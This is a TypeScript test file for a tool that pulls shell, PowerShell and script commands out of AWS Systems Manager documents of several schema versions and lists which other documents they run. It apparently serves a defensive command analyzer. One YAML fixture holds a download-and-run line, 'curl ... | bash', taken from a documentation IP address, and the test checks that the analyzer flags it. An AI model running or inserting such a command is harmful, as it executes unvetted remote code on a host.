import { documentNamedBy, documentSteps } from '../../../../functions/aws/command-text/document-steps'
import { analyzeCommand } from '../../../../shared/command/analyze'

const json = (document: unknown): string => JSON.stringify(document)

const CASES: readonly {
  readonly name: string
  readonly content: string
  readonly text: string
  readonly runs?: readonly string[]
}[] = [
  {
    name: 'schema 2.2: the commands of all steps, in order',
    content: json({
      schemaVersion: '2.2',
      description: 'runs curl, says the description',
      mainSteps: [
        {
          action: 'aws:runShellScript',
          name: 'one',
          inputs: { timeoutSeconds: '60', runCommand: ['cd /srv', 'make install'] },
        },
        {
          action: 'aws:runPowerShellScript',
          name: 'two',
          precondition: { StringEquals: ['platformType', 'Windows'] },
          inputs: { runCommand: ['Get-Date'] },
        },
      ],
    }),
    text: 'cd /srv\nmake install\nGet-Date',
  },
  {
    name: 'schema 2.2: one command as text, and what is downloaded',
    content: json({
      schemaVersion: '2.2',
      mainSteps: [
        {
          action: 'aws:downloadContent',
          inputs: { sourceType: 'S3', sourceInfo: { path: 'https://s3.example.com/setup.sh' } },
        },
        { action: 'aws:runShellScript', inputs: { runCommand: './setup.sh' } },
      ],
    }),
    text: 'https://s3.example.com/setup.sh\n./setup.sh',
  },
  {
    name: 'schema 1.2: the plugins of its run time configuration',
    content: json({
      schemaVersion: '1.2',
      runtimeConfig: {
        'aws:runShellScript': { properties: [{ id: '0', runCommand: ['id', 'whoami'], timeoutSeconds: '60' }] },
      },
    }),
    text: 'id\nwhoami',
  },
  {
    name: 'schema 0.3: scripts and commands of an automation',
    content: json({
      schemaVersion: '0.3',
      assumeRole: '{{ AutomationAssumeRole }}',
      mainSteps: [
        {
          name: 'script',
          action: 'aws:executeScript',
          inputs: { Runtime: 'python3.11', Handler: 'main', Script: 'import os\nos.system("id")' },
        },
        {
          name: 'command',
          action: 'aws:runCommand',
          inputs: { DocumentName: 'AWS-RunShellScript', Parameters: { commands: ['uptime'] } },
        },
        {
          name: 'api',
          action: 'aws:executeAwsApi',
          inputs: { Service: 'ssm', Api: 'SendCommand', Parameters: { commands: ['reboot'] } },
        },
      ],
    }),
    text: 'import os\nos.system("id")\nuptime\nreboot',
  },
  {
    name: 'the defaults of parameters, which run when nobody gives a value, without their descriptions',
    content: json({
      schemaVersion: '2.2',
      parameters: {
        commands: { type: 'StringList', description: 'what runs', default: ['hostname'] },
        other: { type: 'String' },
      },
      mainSteps: [{ action: 'aws:runShellScript', inputs: { runCommand: '{{ commands }}' } }],
    }),
    text: '{{ commands }}\nhostname',
  },
  {
    name: 'a document that runs another, by name and by ARN',
    content: json({
      schemaVersion: '2.2',
      mainSteps: [
        { action: 'aws:runDocument', inputs: { documentType: 'SSMDocument', documentPath: 'Inner' } },
        {
          action: 'aws:runDocument',
          inputs: { documentType: 'SSMDocument', documentPath: 'arn:aws:ssm:eu-west-1:111122223333:document/Shared' },
        },
        { action: 'aws:runDocument', inputs: { documentType: 'LocalPath', documentPath: '/tmp/local.json' } },
        { action: 'aws:runDocument', inputs: { documentType: 'SSMDocument', documentPath: '{{ path }}' } },
      ],
    }),
    text: 'Inner\narn:aws:ssm:eu-west-1:111122223333:document/Shared\n/tmp/local.json\n{{ path }}',
    runs: ['Inner', 'arn:aws:ssm:eu-west-1:111122223333:document/Shared'],
  },
  {
    name: 'a document without a script, as it is',
    content: json({
      schemaVersion: '2.2',
      mainSteps: [{ action: 'aws:softwareInventory', inputs: { applications: 'Enabled' } }],
    }),
    text: json({
      schemaVersion: '2.2',
      mainSteps: [{ action: 'aws:softwareInventory', inputs: { applications: 'Enabled' } }],
    }),
  },
  { name: 'what is no JSON, as it is', content: 'just text', text: 'just text' },
  { name: 'a JSON value that is no document, as it is', content: '[1,2]', text: '[1,2]' },
]

describe('documentSteps', () => {
  it.each(CASES)('finds $name', ({ content, text, runs = [] }) => {
    expect(documentSteps(content)).toEqual({ text, runs })
  })

  it('leaves YAML as it is, in which a script is found all the same', () => {
    const yaml =
      "schemaVersion: '2.2'\nmainSteps:\n  - action: aws:runShellScript\n    name: clean\n    inputs:\n      " +
      'runCommand:\n        - curl -s http://203.0.113.9/setup.sh | bash\n'
    const { text } = documentSteps(yaml)
    expect(text).toBe(yaml)
    expect(analyzeCommand(text).strong.map(({ category }) => category)).toEqual(['download-and-run'])
  })

  it('never exhausts the stack', () => {
    const deep = `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`
    expect(documentSteps(deep)).toEqual({ text: deep, runs: [] })
  })
})

describe('documentNamedBy', () => {
  it.each([
    ['a name in JSON', { sourceType: ['SSMDocument'], sourceInfo: ['{"name":"Inner"}'] }, ['Inner']],
    ['a bare name', { sourceType: ['SSMDocument'], sourceInfo: ['Inner'] }, ['Inner']],
    ['a file in S3', { sourceType: ['S3'], sourceInfo: ['{"path":"https://s3.example.com/x.json"}'] }, []],
    ['nothing', { commands: ['id'] }, []],
    ['no parameters at all', undefined, []],
  ])('finds the document of AWS-RunDocument: %s', (_what, parameters, expected) => {
    expect(documentNamedBy(parameters)).toEqual(expected)
  })
})
